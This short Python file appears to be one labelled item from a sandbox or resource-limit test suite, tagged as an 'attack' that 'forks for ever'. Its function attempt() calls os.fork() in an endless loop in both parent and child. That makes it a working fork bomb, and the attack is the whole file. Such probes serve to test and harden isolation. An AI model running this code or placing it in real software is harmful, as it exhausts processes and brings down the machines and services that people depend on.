# /// attack
# group = "R2"
# says = "forks for ever"
# probe = true
# untried = ["process"]
# ///
import os


def attempt():
    forked = 0
    while True:
        pid = os.fork()
        if pid:
            forked += 1
